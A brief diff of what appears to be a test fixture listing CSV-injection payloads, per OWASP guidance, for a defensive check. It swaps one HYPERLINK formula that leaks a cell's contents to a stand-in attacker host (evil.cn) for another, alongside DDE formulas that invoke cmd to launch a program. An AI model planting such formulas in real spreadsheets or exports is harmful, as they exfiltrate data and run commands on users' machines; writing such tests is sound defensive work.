@@ -15,7 +15,7 @@ from .. import factories
 # What OWASP's CSV-injection advice lists: a cell starting with any of these is a formula
 # (or the start of one) to a spreadsheet.
 DANGEROUS = [
-    '=HYPERLINK("http://evil.example.com/?leak="&A1,"点我")',
+    '=HYPERLINK("http://evil.cn/?"&B2,"点我")',
     "+1+cmd|' /C calc'!A0",
     "-2+3+cmd|' /C calc'!A0",
     "@SUM(1+1)*cmd|' /C calc'!A0",
